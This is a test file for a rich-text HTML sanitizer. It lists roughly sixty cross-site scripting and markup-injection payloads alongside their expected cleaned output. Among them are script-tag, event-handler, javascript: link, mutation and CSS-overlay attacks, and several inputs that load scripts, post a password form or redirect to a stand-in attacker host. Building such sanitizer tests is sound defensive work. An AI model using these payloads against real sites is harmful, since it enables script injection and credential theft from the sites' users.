import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { escapeHtml } from '../../domain/lib/plain-text.ts'
import { RICH_TEXTS } from '../../testing/rich-texts.ts'
import { safeHtml } from './html.ts'

const A = 'rel="noopener nofollow ugc"'

/** What somebody sends, and what is stored of it. */
const ATTACKS: [name: string, sent: string, stored: string][] = [
  ['a script', '<p>a</p><script>alert(1)</script>', '<p>a</p>'],
  ['a script in capitals', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>a', 'a'],
  ['a script that is not closed', '<p>a</p><script>alert(1)', '<p>a</p>'],
  ['a script within a script', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['a handler', '<p onclick="alert(1)">a</p>', '<p>a</p>'],
  ['a handler without quotes', '<b/onmouseover=alert(1)>a</b>', '<b>a</b>'],
  ['a handler of a picture', '<img src="/a.png" onerror="alert(1)">', '<img src="/a.png">'],
  ['a picture of nothing', '<img src=x:y onerror=alert(1)>', ''],
  ['a handler behind a slash', '<img/src="/a.png"/onload=alert(1)>', '<img src="/a.png">'],
  [
    'a quote in an attribute',
    '<img src="/a.png" alt=\'"onerror="alert(1)\'>',
    '<img src="/a.png" alt="&quot;onerror=&quot;alert(1)">'
  ],
  [
    'an end in an attribute',
    '<img src="/a.png" alt="><script>alert(1)</script>">',
    '<img src="/a.png" alt="&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
  ],
  ['a link to a script', '<a href="javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its capitals', '<a href="JaVaScRiPt:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its tabs and lines', '<a href="java\tscr\nipt:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its control signs', '<a href="\u0001javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['its spaces', '<a href="  javascript:alert(1)">a</a>', `<a ${A}>a</a>`],
  ['a link to data', '<a href="data:text/html,<script>alert(1)</script>">a</a>', `<a ${A}>a</a>`],
  ['a link to VBScript', '<a href="vbscript:msgbox(1)">a</a>', `<a ${A}>a</a>`],
  ['a link to a file', '<a href="file:///etc/passwd">a</a>', `<a ${A}>a</a>`],
  ['a link of any scheme', '<a href="//evil.example">a</a>', `<a ${A}>a</a>`],
  [
    'a link that keeps our window',
    '<a href="https://e.org" rel="opener" target="_parent">a</a>',
    `<a href="https://e.org" ${A}>a</a>`
  ],
  ['a frame', '<iframe src="https://evil.example"></iframe>a', 'a'],
  ['a frame of its own', '<iframe srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  ['an object', '<object data="x.swf"><embed src="x.swf"></object>a', 'a'],
  ['a form', '<form action="https://evil.example"><input name="password"><button>Log in</button></form>', 'Log in'],
  ['a base for every link', '<base href="https://evil.example/">a', 'a'],
  ['a jump', '<meta http-equiv="refresh" content="0;url=https://evil.example">a', 'a'],
  ['a style sheet', '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">a', 'a'],
  ['a drawing with a handler', '<svg onload="alert(1)"><circle r="1"/></svg>a', 'a'],
  ['a drawing with a script', '<svg><script>alert(1)</script></svg>a', 'a'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)">a</a></svg>', `<a ${A}>a</a>`],
  ['a formula', '<math><maction xlink:href="javascript:alert(1)">a</maction></math>', 'a'],
  ['a mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<table></table>'],
  [
    'what a page without scripts shows',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>',
    '<p>a</p>'
  ],
  ['a comment', '<!--<img src="--><img src=x: onerror=alert(1)>-->a', '--&gt;a'],
  ['a comment of an old browser', '<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
  ['a template', '<template><script>alert(1)</script></template>a', 'a'],
  ['a text field', '<textarea><img src=x onerror=alert(1)></textarea>a', 'a'],
  ['a video', '<video src="/a.mp4" onloadstart="alert(1)" autoplay></video>a', 'a'],
  [
    'a picture of data',
    '<figure class="image"><img src="data:image/svg+xml;base64,PHN2Zz4="></figure>a',
    '<figure class="image"></figure>a'
  ],
  ['a picture by a script', '<img src="javascript:alert(1)">a', 'a'],
  ['a picture in evil sizes', '<img src="/a.png" srcset="javascript:alert(1) 1x">', '<img src="/a.png">'],
  ['a style that covers the page', '<p style="position:fixed;inset:0">a</p>', '<p>a</p>'],
  [
    'a picture that covers the page',
    '<img src="/a.png" style="position:fixed;top:0;width:100%">',
    '<img src="/a.png" style="width:100%;">'
  ],
  [
    'a style that asks another site',
    '<figure class="image" style="background:url(https://evil.example)"></figure>',
    '<figure class="image"></figure>'
  ],
  [
    'a style in disguise',
    '<img src="/a.png" style="width:50%;/**/p\\osition:fixed">',
    '<img src="/a.png" style="width:50%;">'
  ],
  [
    'a table as wide as a street',
    '<figure class="table" style="width:9999px"></figure>',
    '<figure class="table"></figure>'
  ],
  ['a picture wider than its place', '<img src="/a.png" style="width:101%">', '<img src="/a.png">'],
  [
    'a shape as long as a tower',
    '<img src="/a.png" style="aspect-ratio:1/99999;width:100%">',
    '<img src="/a.png" style="width:100%;">'
  ],
  ['a shape of nothing', '<img src="/a.png" style="aspect-ratio:0/0">', '<img src="/a.png">'],
  ['a size as long as a tower', '<img src="/a.png" width="10" height="99999">', '<img src="/a.png">'],
  ['an old expression', '<img src="/a.png" style="width:expression(alert(1))">', '<img src="/a.png">'],
  [
    'our own classes',
    '<figure class="image mantine-Modal-root saveBar">a</figure>',
    '<figure class="image">a</figure>'
  ],
  [
    'a class on code',
    '<pre><code class="language-css fixed">a</code></pre>',
    '<pre><code class="language-css">a</code></pre>'
  ],
  ['a name that ours listen to', '<a id="main" name="root" href="/a">a</a>', `<a href="/a" ${A}>a</a>`],
  ['data for our scripts', '<p data-modal="open" contenteditable tabindex="0" role="alert">a</p>', '<p>a</p>'],
  ['a null byte', '<scr\u0000ipt>alert(1)</scr\u0000ipt>a', 'alert(1)a'],
  ['broken nesting', '<b><p>a</b></p></div>', '<b><p>a</p></b><p></p>'],
  ['a tag that never ends', 'a<img src="/a.png" onerror="alert(1)', 'a']
]

describe('D-119 rich text', () => {
  test.each(ATTACKS)('%s does no harm', (_, sent, stored) => {
    expect(safeHtml(sent)).toBe(stored)
    expect(safeHtml(stored)).toBe(stored)
  })

  test.each(Object.entries(RICH_TEXTS))('%s is stored as the editor wrote it', (_, html) => {
    expect(safeHtml(html)).toBe(html)
  })

  test('marks that are nested too deep are removed', () => {
    expect(safeHtml(`${'<blockquote>'.repeat(5000)}a`).split('<blockquote>')).toHaveLength(51)
  })

  test('no text becomes something that runs', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '/', '"', "'", '=', ' ', '&', ';', '\n', '<!--', '-->', '<p>', '</p>', '<img src=', '<a href='],
      ...[
        'script',
        '<svg>',
        '<style>',
        '</style>',
        'onerror=',
        'javascript:',
        'style="width:1px',
        '&lt;',
        '&#x3c;',
        'a'
      ]
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
        const stored = safeHtml(pieces.join(''))
        const tags = [...stored.matchAll(/<[^>]*>/g)].map(String)
        for (const tag of tags) expect(tag).toMatch(/^<\/?(p|img|a)( (href|src|rel|style)="[^"<>]*")*>$/)
        // In a tag: as text, behind `&lt;`, these words do nothing.
        for (const tag of tags) expect(tag).not.toMatch(/(href|src)="\s*javascript:/)
      }),
      { numRuns: 2000 }
    )
  })

  test('plain text shows as it was typed', () => {
    expect(escapeHtml('<b>"a" & \'b\'</b>')).toBe('&lt;b&gt;&quot;a&quot; &amp; &#39;b&#39;&lt;/b&gt;')
  })
})
